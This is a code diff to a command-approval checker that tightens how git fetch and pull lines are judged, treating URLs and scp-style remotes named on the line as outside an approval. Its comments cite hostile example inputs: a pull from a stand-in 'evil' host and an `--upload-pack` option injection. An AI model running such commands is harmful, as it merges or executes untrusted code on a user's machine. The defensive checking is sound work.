@@ -2410,7 +2410,8 @@ class _Walk(LineWrites):
                 Verdict.ASK,
                 "engine.approved-fetch-refspec",
                 f"`{short(local)}` may be a repository on this machine (its refs may be "
-                "this one's own, the stash among them), which the approval does not cover",
+                "this one's own, the stash among them) or one the repository does not name "
+                "as a remote, which the approval does not cover",
             )
             return
         if not cwd.known:
@@ -2465,10 +2466,12 @@ class _Walk(LineWrites):
         with `host:` before its first `/` is a network URL or a refspec."""
         if value.startswith("-"):
             return value.startswith(("--upload-pack", "--repo"))  # (`--upload-pack=./x`)
-        if value.lower().startswith("file:"):
+        if value.lower().startswith("file:") or _FETCH_URL.match(value):
+            # a URL the line names: the repository's remotes are what the approval covers,
+            # not any repository (`git pull https://x.example/evil main` merges its code)
             return True
         if ":" in value.split("/", 1)[0]:
-            return False  # (`https://…`, `git@host:x`, `main:main`, `+refs/…:…` keep theirs)
+            return False  # (`main:main`, `+refs/…:…` are refspecs)
         return self._a_repository_here(value.lstrip("+"), cwd)
 
     def _sends_branch(self, source: str, cwd: paths.Cwd) -> bool:
@@ -6637,6 +6640,8 @@ _PUSHED_ID: Final = re.compile(
 )  # (`NAME-gID` is git describe's spelling of the id: review FR1)
 
 _NUMBER_OPTIONS: Final = frozenset({"-j", "--jobs", "-l", "--load-average"})
+# a repository URL on a fetch's line: `scheme://…` or scp's `user@host:path`
+_FETCH_URL: Final = re.compile(r"[A-Za-z][A-Za-z0-9+.-]*://|[^/:@{]+@[^/:]+:")
 
 
 def _legacy_remotes(directory: str) -> str | None:
